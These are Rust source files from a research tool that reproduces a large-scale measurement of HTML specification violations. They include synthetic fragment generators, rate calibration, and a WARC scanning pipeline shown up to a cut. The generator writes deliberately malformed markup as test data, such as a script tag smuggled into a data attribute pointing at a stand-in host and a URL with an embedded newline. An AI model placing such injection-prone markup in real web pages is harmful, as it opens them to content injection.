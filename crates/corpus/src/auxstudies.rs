//! Corpus support for the paper's two auxiliary analyses.
//!
//! * **§5.1 — dynamically loaded content**: "We analyzed 100 pages for each
//!   of the top 1K Tranco websites in July 2021 and collected all
//!   dynamically loaded HTML fragments." The generator below produces the
//!   fragments a headless crawl of a domain's pages would capture
//!   (widget/ajax payload markup), expressing the same violation posture
//!   as the domain's static template — the paper found the distributions
//!   to match ("more than 60% of the websites have at least one violation;
//!   FB2 and DM3 in top positions; math hardly appears").
//! * **§5.2 — less popular websites**: a sample of random long-tail
//!   domains; same distribution shape, but *fewer* violations per domain
//!   than the top list (smaller, simpler sites; none of the complex-SVG
//!   namespace mess of big properties).

use crate::profile::DomainSnapshot;
use crate::rng::{self, KeyedRng};
use crate::snapshots::Snapshot;
use hv_core::ViolationKind;

/// Violations that can exist inside a dynamically loaded fragment (no
/// document structure, so the head/body families are impossible there).
pub const FRAGMENT_KINDS: [ViolationKind; 11] = [
    ViolationKind::FB1,
    ViolationKind::FB2,
    ViolationKind::DM3,
    ViolationKind::HF4,
    ViolationKind::HF5_1,
    ViolationKind::HF5_2,
    ViolationKind::HF5_3,
    ViolationKind::DE3_1,
    ViolationKind::DE3_2,
    ViolationKind::DE3_3,
    ViolationKind::DE4,
];

/// The dynamically loaded fragments a runtime crawl of one page would
/// collect (0–3 fragments per page). Fragment violations mirror the
/// domain's static posture: the same templates and the same developers
/// produce both.
pub fn dynamic_fragments(seed: u64, ds: &DomainSnapshot, page_index: usize) -> Vec<String> {
    let mut r =
        KeyedRng::new(seed, &[0xD14A, ds.domain_id, ds.snapshot.index() as u64, page_index as u64]);
    let n = r.below(4);
    let mut out = Vec::with_capacity(n);
    for frag_idx in 0..n {
        out.push(one_fragment(seed, ds, page_index, frag_idx, &mut r));
    }
    out
}

fn one_fragment(
    seed: u64,
    ds: &DomainSnapshot,
    page_index: usize,
    frag_idx: usize,
    r: &mut KeyedRng,
) -> String {
    // Which of the domain's expressed violations carry into this fragment:
    // each with 40% probability (dynamic content shares the template's
    // habits, diluted across many small payloads).
    let carried: Vec<ViolationKind> = ds
        .expressed
        .iter()
        .copied()
        .filter(|k| FRAGMENT_KINDS.contains(k))
        .filter(|k| {
            rng::chance(
                seed,
                &[
                    0xD14B,
                    ds.domain_id,
                    ds.snapshot.index() as u64,
                    page_index as u64,
                    frag_idx as u64,
                    *k as u64,
                ],
                0.4,
            )
        })
        .collect();
    let has = |k: ViolationKind| carried.contains(&k);

    let mut f = String::with_capacity(512);
    f.push_str("<div class=\"async-widget\">");
    match r.below(3) {
        0 => {
            // A teaser card payload.
            if has(ViolationKind::FB2) {
                f.push_str("<a href=\"/story/1\"class=\"card\">Breaking update</a>");
            } else {
                f.push_str("<a href=\"/story/1\" class=\"card\">Breaking update</a>");
            }
            if has(ViolationKind::DM3) {
                f.push_str("<span class=\"tag\" class=\"tag-hot\">hot</span>");
            }
        }
        1 => {
            // A mini data table.
            if has(ViolationKind::HF4) {
                f.push_str(
                    "<table><tr><strong>Live scores</strong></tr><tr><td>2:1</td></tr></table>",
                );
            } else {
                f.push_str("<table><tr><td>Live scores</td><td>2:1</td></tr></table>");
            }
            if has(ViolationKind::FB1) {
                f.push_str("<img/src=\"/live.png\"/alt=\"live\">");
            }
        }
        _ => {
            // An embed/chart payload.
            if has(ViolationKind::HF5_2) {
                f.push_str(
                    "<svg viewBox=\"0 0 10 2\"><rect width=\"4\"></rect><div>40%</div></svg>",
                );
            } else if has(ViolationKind::HF5_1) {
                f.push_str("<path d=\"M0 0L4 4\" class=\"spark\"></path>");
            } else {
                f.push_str("<svg viewBox=\"0 0 10 2\"><rect width=\"4\"></rect></svg>");
            }
            if has(ViolationKind::DE3_2) {
                f.push_str(
                    "<div data-embed='<script src=\"https://w.example/w.js\"></script>'></div>",
                );
            }
        }
    }
    if has(ViolationKind::DE4) {
        f.push_str("<form action=\"/vote/\"><form action=\"/vote\"><input name=\"v\"></form>");
    }
    if has(ViolationKind::DE3_1) {
        f.push_str("<a href=\"/r?u=x\n<span>now</span>\">more</a>");
    }
    f.push_str("</div>");
    f
}

/// §5.2: the long-tail variant of a domain snapshot. Long-tail sites are
/// smaller (few pages), simpler, and drop most of the complexity-driven
/// violations (the namespace mess of huge SVG-heavy properties), while the
/// typo-class violations persist at a damped rate.
pub fn longtail_snapshot(
    seed: u64,
    index: u64,
    snap: Snapshot,
    ds_model: &crate::profile::ProfileModel,
) -> DomainSnapshot {
    // Long-tail ids live far outside the Tranco universe.
    let id = 0x4000_0000_0000 + index;
    let mut expressed: Vec<ViolationKind> = ds_model
        .expressed(id, snap)
        .into_iter()
        .filter(|k| {
            let damp = match k {
                // Complexity-driven kinds are mostly a top-site phenomenon.
                ViolationKind::HF5_1 | ViolationKind::HF5_2 | ViolationKind::HF5_3 => 0.25,
                // Refactor-churn kinds damp moderately (long tail changes
                // rarely).
                ViolationKind::DM3 | ViolationKind::HF3 => 0.75,
                _ => 0.85,
            };
            rng::chance(seed, &[0x10A6, id, snap.index() as u64, *k as u64], damp)
        })
        .collect();
    expressed.sort_unstable();
    DomainSnapshot {
        domain_id: id,
        domain_name: format!("smallsite{index}.example"),
        rank: 1_000_000 + index as u32,
        snapshot: snap,
        utf8_ok: ds_model.utf8_ok(id, snap),
        // "a popular website often has more pages than a less popular one".
        page_count: 3 + rng::below(seed, &[0x10A7, id, snap.index() as u64], 20),
        expressed,
        benign_newline_url: ds_model.benign_newline_url(id, snap),
        uses_math: false,
        archetype: ds_model.archetype(id),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::archive::{Archive, CorpusConfig};

    /// Test-local one-shot over the new Battery API (the deprecated
    /// free-function shim delegates to exactly this).
    fn check_fragment(raw: &str) -> hv_core::PageReport {
        hv_core::Battery::full().run_fragment(raw, "div")
    }

    fn archive() -> Archive {
        Archive::new(CorpusConfig { seed: 77, scale: 0.005 })
    }

    #[test]
    fn fragments_are_deterministic_and_bounded() {
        let a = archive();
        let d = &a.domains()[0];
        let ds = a.model.domain_snapshot(d, Snapshot::ALL[6]).unwrap();
        let f1 = dynamic_fragments(a.cfg.seed, &ds, 0);
        let f2 = dynamic_fragments(a.cfg.seed, &ds, 0);
        assert_eq!(f1, f2);
        assert!(f1.len() <= 3);
    }

    #[test]
    fn fragment_violations_are_detectable() {
        // A snapshot expressing fragment-compatible kinds must eventually
        // produce fragments that the fragment checker flags.
        let a = archive();
        let mut ds = a.model.domain_snapshot(&a.domains()[0], Snapshot::ALL[6]).unwrap();
        ds.expressed = vec![ViolationKind::FB2, ViolationKind::HF4, ViolationKind::DE4];
        let mut hit = std::collections::BTreeSet::new();
        for page in 0..60 {
            for frag in dynamic_fragments(a.cfg.seed, &ds, page) {
                for k in check_fragment(&frag).kinds() {
                    hit.insert(k);
                }
            }
        }
        for k in ds.expressed {
            assert!(hit.contains(&k), "{k} never surfaced in fragments");
        }
    }

    #[test]
    fn clean_domains_produce_clean_fragments() {
        let a = archive();
        let mut ds = a.model.domain_snapshot(&a.domains()[0], Snapshot::ALL[6]).unwrap();
        ds.expressed.clear();
        for page in 0..20 {
            for frag in dynamic_fragments(a.cfg.seed, &ds, page) {
                let r = check_fragment(&frag);
                assert!(r.is_clean(), "clean fragment flagged: {:?}\n{frag}", r.findings);
            }
        }
    }

    #[test]
    fn head_family_never_fires_in_fragments() {
        let a = archive();
        let mut ds = a.model.domain_snapshot(&a.domains()[0], Snapshot::ALL[6]).unwrap();
        ds.expressed = FRAGMENT_KINDS.to_vec();
        for page in 0..30 {
            for frag in dynamic_fragments(a.cfg.seed, &ds, page) {
                let r = check_fragment(&frag);
                for k in r.kinds() {
                    assert!(FRAGMENT_KINDS.contains(&k), "structural kind {k} fired in a fragment");
                }
            }
        }
    }

    #[test]
    fn longtail_sites_are_smaller_and_cleaner() {
        let a = archive();
        let snap = Snapshot::ALL[6];
        let n = 3000u64;
        let mut lt_violations = 0usize;
        let mut lt_pages = 0usize;
        for i in 0..n {
            let ds = longtail_snapshot(a.cfg.seed, i, snap, &a.model);
            lt_violations += ds.expressed.len();
            lt_pages += ds.page_count;
            assert!(ds.page_count <= 25);
        }
        // Popular baseline over the same count of model draws.
        let mut top_violations = 0usize;
        for i in 0..n {
            top_violations += a.model.expressed(i, snap).len();
        }
        assert!(
            lt_violations < top_violations,
            "long tail must violate less: {lt_violations} vs {top_violations}"
        );
        assert!(lt_pages / (n as usize) < 30);
    }

    #[test]
    fn longtail_pages_generate_and_check() {
        let a = archive();
        let ds = longtail_snapshot(a.cfg.seed, 5, Snapshot::ALL[7], &a.model);
        for page in 0..ds.page_count.min(4) {
            let html = crate::htmlgen::generate_page(a.cfg.seed, &ds, page);
            // Pages parse and the checkers never see structural kinds the
            // domain does not express.
            let report = hv_core::Battery::full().run_str(&html);
            for k in report.kinds() {
                assert!(ds.expressed.contains(&k), "unexpected {k} on longtail page");
            }
        }
    }
}
