//! Calibration: the paper's published rates, digitized, and the solved
//! generator parameters that reproduce them.
//!
//! Single source of truth — the repro harness compares its measurements
//! against the `PAPER_*` constants in this module, and the generator draws
//! domain profiles from parameters *solved* from the same constants, so
//! target and ground truth can never drift apart.
//!
//! ## The statistical model
//!
//! A domain is **disciplined** with probability `G` (never violates
//! anything — the well-run ~8% of the web). An ordinary domain is
//! **chronically prone** to violation `V` with probability `c_V`
//! (violations live in persistent templates). In year `y`, an ordinary
//! domain is **active** (its template/content actually exercised, pages
//! changed, crawler caught the bad paths) with probability `α_y` — a single
//! per-domain-year gate shared by all violations, which produces the strong
//! within-domain correlation the paper's numbers imply (naive independence
//! would put "any violation" above 90% per year; the paper measured
//! 68–74%). Given chronic + active, the violation is expressed with
//! probability `q_V(y)`.
//!
//! The three parameter families are solved from the paper's numbers:
//! * `c_V` from the Figure-8 whole-study union rates (fixed point),
//! * `α_y` from the Figure-9 any-violation-per-year rates (bisection),
//! * `q_V(y) = yearly_V(y) / ((1-G)·c_V·α_y)` from the appendix trends,
//! * `G` from the §4.2 "92% violated at least once" statistic (iteration).

use crate::snapshots::YEARS;
use hv_core::ViolationKind;

/// Figure 8: share of the 23,983 analyzed domains that showed the violation
/// at least once in eight years (percent).
pub const PAPER_UNION_PCT: [(ViolationKind, f64); 20] = [
    (ViolationKind::FB2, 78.54),
    (ViolationKind::DM3, 75.14),
    (ViolationKind::FB1, 42.84),
    (ViolationKind::HF4, 39.64),
    (ViolationKind::HF1, 36.13),
    (ViolationKind::HF2, 32.81),
    (ViolationKind::HF3, 28.52),
    (ViolationKind::DM1, 21.02),
    (ViolationKind::DM2_3, 13.28),
    (ViolationKind::HF5_1, 10.12),
    (ViolationKind::DE4, 7.03),
    (ViolationKind::DE3_2, 5.25),
    (ViolationKind::DE3_1, 4.46),
    (ViolationKind::DM2_1, 1.79),
    (ViolationKind::DM2_2, 1.31),
    (ViolationKind::HF5_2, 1.22),
    (ViolationKind::DE3_3, 0.93),
    (ViolationKind::DE2, 0.27),
    (ViolationKind::DE1, 0.10),
    (ViolationKind::HF5_3, 0.01),
];

/// Figure 9: share of analyzed domains with at least one violation, per
/// snapshot year 2015–2022 (percent).
pub const PAPER_ANY_VIOLATION_PCT: [f64; YEARS] =
    [74.31, 73.57, 74.85, 71.68, 71.71, 70.29, 69.22, 68.38];

/// §4.2: share of domains with at least one violation across all eight
/// years (percent).
pub const PAPER_UNION_ANY_PCT: f64 = 92.0;

/// Appendix B (Figures 16–21), digitized: per-violation share of analyzed
/// domains, per year (percent). Within the reading error of the published
/// plots; anchored on the exact numbers quoted in the text (DE3_1
/// 1.37→0.76, DE3_2 ≈1.5→1.4, Figure 10 group envelopes).
pub fn paper_yearly_pct(kind: ViolationKind) -> [f64; YEARS] {
    use ViolationKind::*;
    match kind {
        FB2 => [47.0, 46.5, 47.5, 44.5, 43.5, 42.0, 40.5, 38.5],
        FB1 => [26.0, 25.5, 26.0, 23.0, 21.5, 20.0, 19.0, 18.0],
        DM3 => [41.0, 40.5, 41.5, 39.5, 38.5, 37.0, 36.0, 34.5],
        DM1 => [9.5, 9.2, 9.5, 8.8, 8.4, 8.0, 7.6, 7.2],
        DM2_1 => [0.75, 0.73, 0.75, 0.70, 0.68, 0.65, 0.62, 0.60],
        DM2_2 => [0.55, 0.54, 0.55, 0.52, 0.50, 0.48, 0.46, 0.44],
        DM2_3 => [5.60, 5.50, 5.60, 5.30, 5.10, 4.90, 4.70, 4.60],
        HF1 => [17.5, 17.0, 17.5, 16.0, 15.0, 14.0, 13.0, 12.5],
        HF2 => [16.0, 15.5, 16.0, 14.5, 13.5, 12.5, 11.5, 10.5],
        HF3 => [13.0, 12.7, 13.0, 11.8, 11.0, 10.2, 9.3, 8.5],
        HF4 => [24.5, 24.0, 24.5, 21.5, 20.0, 18.0, 16.5, 15.0],
        HF5_1 => [2.8, 3.0, 3.2, 3.4, 3.6, 3.8, 4.1, 4.4],
        HF5_2 => [0.30, 0.33, 0.36, 0.40, 0.44, 0.48, 0.52, 0.56],
        HF5_3 => [0.004, 0.004, 0.004, 0.004, 0.004, 0.004, 0.004, 0.004],
        DE1 => [0.030, 0.029, 0.030, 0.028, 0.026, 0.025, 0.023, 0.022],
        DE2 => [0.075, 0.073, 0.075, 0.070, 0.066, 0.062, 0.058, 0.055],
        DE3_1 => [1.37, 1.30, 1.28, 1.15, 1.05, 0.95, 0.85, 0.76],
        DE3_2 => [1.50, 1.48, 1.50, 1.46, 1.44, 1.42, 1.41, 1.40],
        DE3_3 => [0.40, 0.39, 0.40, 0.37, 0.35, 0.33, 0.31, 0.29],
        DE4 => [2.10, 2.05, 2.10, 1.95, 1.85, 1.75, 1.65, 1.55],
    }
}

/// §4.5 auxiliary series (percent of analyzed domains): any URL attribute
/// with a raw newline — 2314 (11.2%) in 2015 → 2469 (11.0%) in 2022.
pub const PAPER_NEWLINE_URL_PCT: [f64; YEARS] = [11.2, 11.2, 11.3, 11.2, 11.1, 11.1, 11.0, 11.0];

/// §4.4: violating domains 2022 with vs. without the automatic fix:
/// 15,337 (68%) → 8,298 (37%), i.e. 46% of violating sites fixed.
pub const PAPER_AUTOFIX_2022: (u32, u32) = (15_337, 8_298);

/// Solved generator parameters (see module docs).
#[derive(Debug, Clone)]
pub struct Calibrated {
    /// Disciplined-domain share `G`.
    pub disciplined: f64,
    /// Per-violation chronic probability `c_V` (conditional on ordinary),
    /// indexed like [`ViolationKind::ALL`].
    pub chronic: [f64; 20],
    /// Per-year activity gate `α_y`.
    pub activity: [f64; YEARS],
    /// Per-violation, per-year expression probability `q_V(y)` given
    /// chronic + active.
    pub express: [[f64; YEARS]; 20],
}

fn kind_index(kind: ViolationKind) -> usize {
    ViolationKind::ALL.iter().position(|&k| k == kind).expect("kind in ALL")
}

/// Union rate target for one kind (fraction, not percent).
pub fn union_target(kind: ViolationKind) -> f64 {
    PAPER_UNION_PCT
        .iter()
        .find(|(k, _)| *k == kind)
        .map(|(_, pct)| pct / 100.0)
        .expect("kind in table")
}

/// Solve all generator parameters from the paper constants.
pub fn solve() -> Calibrated {
    // 1. Disciplined share G from the §4.2 union-any constraint, iterating
    //    because chronic rates depend on G.
    let mut g = 0.05;
    let mut chronic = [0.0f64; 20];
    for _ in 0..40 {
        for kind in ViolationKind::ALL {
            chronic[kind_index(kind)] = solve_chronic(kind, g);
        }
        // P(at least one chronic violation | ordinary).
        let mut none = 1.0;
        for c in chronic {
            none *= 1.0 - c;
        }
        // Chronic-but-never-expressed correction is negligible for the
        // high-rate kinds that dominate the union; verified by simulation
        // tests below.
        let implied_union_any = (1.0 - g) * (1.0 - none);
        let target = PAPER_UNION_ANY_PCT / 100.0;
        g += implied_union_any - target;
        g = g.clamp(0.0, 0.5);
    }

    // 2. Per-year activity gates α_y from the Figure-9 targets.
    let mut activity = [0.75f64; YEARS];
    for (y, alpha) in activity.iter_mut().enumerate() {
        *alpha = solve_activity(y, g);
    }

    // 3. Expression probabilities.
    let mut express = [[0.0f64; YEARS]; 20];
    for kind in ViolationKind::ALL {
        let i = kind_index(kind);
        let yearly = paper_yearly_pct(kind);
        for y in 0..YEARS {
            let target = yearly[y] / 100.0 / (1.0 - g); // conditional on ordinary
            let q = target / (chronic[i] * activity[y]);
            express[i][y] = q.clamp(0.0, 1.0);
        }
    }

    Calibrated { disciplined: g, chronic, activity, express }
}

/// Fixed point for `c_V`: `c (1 - Π_y (1 - ȳ_y / c)) = ū` where `ȳ`/`ū` are
/// the yearly/union rates conditional on ordinary domains.
fn solve_chronic(kind: ViolationKind, g: f64) -> f64 {
    let union = union_target(kind) / (1.0 - g);
    let yearly: Vec<f64> = paper_yearly_pct(kind).iter().map(|p| p / 100.0 / (1.0 - g)).collect();
    let max_yearly = yearly.iter().cloned().fold(0.0, f64::max);
    let mut c = union.max(max_yearly).min(1.0);
    for _ in 0..60 {
        let mut none = 1.0;
        for &y in &yearly {
            none *= 1.0 - (y / c).min(1.0);
        }
        let coverage = 1.0 - none;
        if coverage <= 1e-12 {
            break;
        }
        let next = (union / coverage).max(max_yearly).min(1.0);
        if (next - c).abs() < 1e-12 {
            c = next;
            break;
        }
        c = next;
    }
    c
}

/// Bisection for `α_y`: `(1-G)·α·(1 - Π_V (1 - ȳ_V/α)) = any_y`.
fn solve_activity(year: usize, g: f64) -> f64 {
    let target = PAPER_ANY_VIOLATION_PCT[year] / 100.0;
    let yearly: Vec<f64> =
        ViolationKind::ALL.iter().map(|&k| paper_yearly_pct(k)[year] / 100.0 / (1.0 - g)).collect();
    let max_yearly = yearly.iter().cloned().fold(0.0, f64::max);
    let f = |alpha: f64| -> f64 {
        let mut none = 1.0;
        for &y in &yearly {
            none *= 1.0 - (y / alpha).min(1.0);
        }
        (1.0 - g) * alpha * (1.0 - none)
    };
    let (mut lo, mut hi) = (max_yearly.min(0.999), 1.0);
    // f is increasing in α on [max_yearly, 1]; if even α=1 undershoots (it
    // cannot: any ≥ max single yearly), clamp.
    for _ in 0..60 {
        let mid = 0.5 * (lo + hi);
        if f(mid) < target {
            lo = mid;
        } else {
            hi = mid;
        }
    }
    0.5 * (lo + hi)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn twenty_kinds_in_union_table() {
        assert_eq!(PAPER_UNION_PCT.len(), ViolationKind::ALL.len());
        for kind in ViolationKind::ALL {
            assert!(PAPER_UNION_PCT.iter().any(|(k, _)| *k == kind), "{kind} missing");
        }
    }

    #[test]
    fn yearly_never_exceeds_union() {
        // A violation cannot appear on more domains in one year than over
        // all years.
        for kind in ViolationKind::ALL {
            let union = union_target(kind);
            for (y, pct) in paper_yearly_pct(kind).iter().enumerate() {
                assert!(
                    pct / 100.0 <= union + 1e-9,
                    "{kind} year {y}: {pct}% > union {}%",
                    union * 100.0
                );
            }
        }
    }

    #[test]
    fn solved_parameters_are_probabilities() {
        let cal = solve();
        assert!((0.0..=0.5).contains(&cal.disciplined), "G = {}", cal.disciplined);
        for (i, c) in cal.chronic.iter().enumerate() {
            assert!((0.0..=1.0).contains(c), "chronic[{i}] = {c}");
        }
        for a in cal.activity {
            assert!((0.0..=1.0).contains(&a), "alpha = {a}");
        }
        for row in cal.express {
            for q in row {
                assert!((0.0..=1.0).contains(&q), "q = {q}");
            }
        }
    }

    /// Monte-Carlo check: simulating the solved model reproduces the target
    /// marginals — yearly rates, union rates, and the any-violation series.
    #[test]
    fn simulation_matches_paper_targets() {
        let cal = solve();
        let n = 60_000usize;
        let mut union_hits = [0usize; 20];
        let mut yearly_hits = vec![[0usize; YEARS]; 20];
        let mut any_year = [0usize; YEARS];
        let mut any_ever = 0usize;

        for d in 0..n as u64 {
            if crate::rng::chance(1, &[d, 0xD15C], cal.disciplined) {
                continue; // disciplined: never violates
            }
            let mut ever = false;
            let mut ever_kind = [false; 20];
            for y in 0..YEARS {
                let active = crate::rng::chance(1, &[d, 0xAC71, y as u64], cal.activity[y]);
                if !active {
                    continue;
                }
                let mut any = false;
                for (i, _) in ViolationKind::ALL.iter().enumerate() {
                    let chronic = crate::rng::chance(1, &[d, 0xC480, i as u64], cal.chronic[i]);
                    if chronic
                        && crate::rng::chance(1, &[d, 0xE9, i as u64, y as u64], cal.express[i][y])
                    {
                        yearly_hits[i][y] += 1;
                        ever_kind[i] = true;
                        any = true;
                    }
                }
                if any {
                    any_year[y] += 1;
                    ever = true;
                }
            }
            for (i, hit) in ever_kind.iter().enumerate() {
                if *hit {
                    union_hits[i] += 1;
                }
            }
            if ever {
                any_ever += 1;
            }
        }

        // Any-violation series within 1.5 points of Figure 9.
        for y in 0..YEARS {
            let measured = 100.0 * any_year[y] as f64 / n as f64;
            let target = PAPER_ANY_VIOLATION_PCT[y];
            assert!(
                (measured - target).abs() < 1.5,
                "year {y}: measured {measured:.2}% vs target {target}%"
            );
        }
        // §4.2 union-any within 1.5 points of 92%.
        let measured_any = 100.0 * any_ever as f64 / n as f64;
        assert!((measured_any - PAPER_UNION_ANY_PCT).abs() < 1.5, "union any {measured_any:.2}%");
        // Per-kind yearly and union rates within tolerance scaled to rate.
        for (i, kind) in ViolationKind::ALL.iter().enumerate() {
            let union_target_pct = union_target(*kind) * 100.0;
            let measured_union = 100.0 * union_hits[i] as f64 / n as f64;
            let tol = (union_target_pct * 0.08).max(0.25);
            assert!(
                (measured_union - union_target_pct).abs() < tol,
                "{kind} union: measured {measured_union:.2}% vs {union_target_pct:.2}%"
            );
            let yearly = paper_yearly_pct(*kind);
            for y in 0..YEARS {
                let measured = 100.0 * yearly_hits[i][y] as f64 / n as f64;
                let tol = (yearly[y] * 0.12).max(0.2);
                assert!(
                    (measured - yearly[y]).abs() < tol,
                    "{kind} year {y}: measured {measured:.2}% vs {:.2}%",
                    yearly[y]
                );
            }
        }
    }
}
