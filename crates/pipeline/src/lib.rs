//! # hv-pipeline — the paper's Figure-6 measurement pipeline
//!
//! ```text
//!  Tranco top list ─▶ (1) collect CDX metadata ─▶ (2) crawl WARC records
//!                          │                            │
//!                          ▼                            ▼
//!                   hv_corpus::Archive          UTF-8 filter (§4.1)
//!                                                      │
//!                   (4) ResultStore ◀─ (3) checker battery (hv_core)
//! ```
//!
//! * [`run`] — the page-granular scan engine: workers pull individual
//!   pages from an atomic cursor, each running one reusable
//!   [`hv_core::Battery`]; per-domain partials merge commutatively, so
//!   the result is byte-identical at any thread count.
//! * [`metrics`] — scan observability: throughput, per-phase timings and
//!   per-check fire counts, collected lock-free and embedded in the store.
//! * [`store`] — the embedded result database (the paper used Postgres; a
//!   typed in-memory table serves the same queries). Persistence sniffs
//!   two formats: v0 JSON (export/interchange) and the [`format`] v1
//!   segmented binary layout with per-segment checksums and summaries.
//! * [`aggregate`] — the one-pass [`AggregateIndex`]: every number behind
//!   Tables 1–2, Figures 8–10 and 16–21 folded in a single O(records)
//!   sweep, with the original per-query scans kept in
//!   [`aggregate::legacy`] as the equivalence oracle.
//! * [`outcome`] — the failure model: every listed page ends `Ok`,
//!   `Degraded` (analyzed after retries), or `Quarantined` with a
//!   structured [`ErrorClass`]; never a dead worker, never a silent skip.
//! * [`chaos`] — the deterministic fault-injection harness (`hva chaos`):
//!   scans under `hv_corpus::faults` injection and asserts that workers
//!   survive, quarantine is thread-count-invariant, and fault-free pages
//!   are untouched.
//!
//! ```no_run
//! use hv_corpus::{Archive, CorpusConfig};
//! use hv_pipeline::{run, IndexedStore, ScanOptions};
//!
//! let archive = Archive::new(CorpusConfig { seed: 7, scale: 0.01 });
//! let store = run::scan(&archive, ScanOptions::new().threads(8).collect_metrics(true));
//! if let Some(m) = &store.metrics {
//!     eprintln!("{}", m.render());
//! }
//! let indexed = IndexedStore::new(store);
//! let fig9 = indexed.index.violating_domains_by_year();
//! println!("violating domains 2022: {:.2}%", fig9[7]);
//! ```

pub mod aggregate;
pub mod auxstudies;
pub mod chaos;
pub mod format;
pub mod metrics;
pub mod outcome;
pub mod run;
pub mod store;
pub mod warcscan;

pub use aggregate::{AggregateIndex, IndexedStore};
pub use chaos::{run_chaos, ChaosReport};
pub use format::{
    scan_prefix, DroppedSegment, FailingWriter, FileSink, LoadOptions, PrefixState, Resumed,
    SegmentSummary, StoreHeader, StoreSink, StoreWriter,
};
pub use metrics::{FaultMetrics, PhaseNanos, ScanMetrics};
pub use outcome::{ErrorClass, PageOutcome, QuarantineEntry, RetryPolicy};
pub use run::{scan, scan_snapshots, scan_streamed, ScanOptions, ScanSummary};
pub use store::{DomainYearRecord, LoadedStore, ResultStore, StoreFormat};
