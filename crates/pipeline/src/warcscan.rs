//! Scanning on-disk WARC/CDXJ archives — the bridge to *real* Common Crawl
//! data.
//!
//! `hva gen --warc` exports the synthetic archive in standard form; this
//! module runs the measurement over any such pair (or over extracts pulled
//! from the real Common Crawl with its index client), producing the same
//! [`ResultStore`] the virtual pipeline fills — so every table/figure
//! renderer works on real data unchanged.

use crate::outcome::{ErrorClass, QuarantineEntry};
use crate::run::DEFAULT_BYTE_BUDGET;
use crate::store::{DomainYearRecord, ResultStore};
use hv_core::context::CheckContext;
use hv_core::{Battery, HvError};
use hv_corpus::warc::{load_cdxj_lenient, read_record, CdxjLine};
use hv_corpus::Snapshot;
use std::collections::{BTreeMap, BTreeSet};
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::path::{Path, PathBuf};

/// A (WARC, CDXJ) file pair associated with a snapshot.
#[derive(Debug, Clone)]
pub struct WarcInput {
    pub warc: PathBuf,
    pub cdx: PathBuf,
    pub snapshot: Snapshot,
}

/// Discover `<CC-MAIN-*>.warc` / `.cdxj` pairs in a directory (the layout
/// `hva gen --warc` produces). Snapshot association comes from the
/// crawl-id file stem.
pub fn discover(dir: &Path) -> Result<Vec<WarcInput>, HvError> {
    let mut inputs = Vec::new();
    let listing = std::fs::read_dir(dir)
        .map_err(|e| HvError::io(format!("listing WARC directory {}", dir.display()), e))?;
    for entry in listing {
        let path =
            entry.map_err(|e| HvError::io("reading WARC directory entry".to_string(), e))?.path();
        if path.extension().and_then(|e| e.to_str()) != Some("warc") {
            continue;
        }
        let stem = path.file_stem().and_then(|s| s.to_str()).unwrap_or_default();
        let Some(snapshot) = snapshot_from_crawl_id(stem) else { continue };
        let cdx = path.with_extension("cdxj");
        if cdx.exists() {
            inputs.push(WarcInput { warc: path, cdx, snapshot });
        }
    }
    inputs.sort_by_key(|i| i.snapshot);
    Ok(inputs)
}

fn snapshot_from_crawl_id(stem: &str) -> Option<Snapshot> {
    // CC-MAIN-2019-04 → 2019.
    let year: u16 = stem.strip_prefix("CC-MAIN-")?.get(..4)?.parse().ok()?;
    Snapshot::from_year(year)
}

/// Scan WARC inputs into a [`ResultStore`]. Pages are grouped into domains
/// by URL host; domain ids are stable hashes of the host.
///
/// Real crawl dumps are never entirely clean, so one poisoned record must
/// not abort the scan: malformed CDXJ lines, unreadable WARC records,
/// oversized or compressed bodies, and parser panics are all quarantined
/// per page with a structured [`ErrorClass`]; only I/O failures on the
/// files themselves (open errors) abort. Non-UTF-8 bodies are *rejected*,
/// not quarantined — that is the study's §4.1 filter at work.
pub fn scan_warc(inputs: &[WarcInput]) -> Result<ResultStore, HvError> {
    let mut store = ResultStore::new(0, 0.0, 0);
    let mut domains_seen: BTreeSet<String> = BTreeSet::new();
    // One battery for the whole scan: the WARC path is single-threaded.
    let mut battery = Battery::full();
    for input in inputs {
        let (index, malformed) = load_cdxj_lenient(&input.cdx)
            .map_err(|e| HvError::io(format!("reading CDXJ index {}", input.cdx.display()), e))?;
        // Index lines the CDXJ parser refused: quarantined under a
        // synthetic per-file pseudo-domain (there is no trustworthy URL to
        // group by), keyed by line number for the audit trail.
        for (line_no, _raw) in &malformed {
            store.quarantine.push(QuarantineEntry {
                domain_id: 0,
                snapshot: input.snapshot,
                page_index: *line_no,
                url: format!("cdxj:{}#L{line_no}", input.cdx.display()),
                class: ErrorClass::MalformedCdx,
            });
        }
        let mut file = std::fs::File::open(&input.warc)
            .map_err(|e| HvError::io(format!("opening WARC {}", input.warc.display()), e))?;
        // Group the index lines by host.
        let mut by_host: BTreeMap<String, Vec<&CdxjLine>> = BTreeMap::new();
        for line in &index {
            by_host.entry(host_of(&line.url)).or_default().push(line);
        }
        for (host, lines) in by_host {
            domains_seen.insert(host.clone());
            let domain_id = hv_corpus::rng::str_key(&host);
            let mut rec = DomainYearRecord {
                domain_id,
                domain_name: host,
                rank: 0,
                snapshot: input.snapshot,
                pages_found: lines.len(),
                pages_analyzed: 0,
                kinds: BTreeSet::new(),
                page_counts: BTreeMap::new(),
                mitigations: hv_core::MitigationFlags::default(),
                kinds_after_autofix: BTreeSet::new(),
                uses_math: false,
                pages_faulted: 0,
                pages_degraded: 0,
                pages_quarantined: 0,
            };
            for (page_index, line) in lines.into_iter().enumerate() {
                let mut quarantine = |rec: &mut DomainYearRecord, class: ErrorClass| {
                    rec.pages_quarantined += 1;
                    store.quarantine.push(QuarantineEntry {
                        domain_id,
                        snapshot: input.snapshot,
                        page_index,
                        url: line.url.clone(),
                        class,
                    });
                };
                let record = match read_record(&mut file, line.offset, line.length) {
                    Ok(record) => record,
                    Err(_warc_err) => {
                        quarantine(&mut rec, ErrorClass::TruncatedRecord);
                        continue;
                    }
                };
                if record.body.len() > DEFAULT_BYTE_BUDGET {
                    quarantine(&mut rec, ErrorClass::OversizedBody);
                    continue;
                }
                if record.body.starts_with(&[0x1f, 0x8b]) {
                    quarantine(&mut rec, ErrorClass::CorruptCompression);
                    continue;
                }
                // Parse + check inside the panic boundary; `rec` is only
                // updated after a clean return, so a caught panic cannot
                // leave half-applied counts.
                let analysis = catch_unwind(AssertUnwindSafe(|| {
                    let text = match spec_html::decoder::decode_utf8(&record.body) {
                        spec_html::decoder::Decoded::Utf8(t) => t,
                        spec_html::decoder::Decoded::NotUtf8 { .. } => return None,
                    };
                    let cx = CheckContext::new(text);
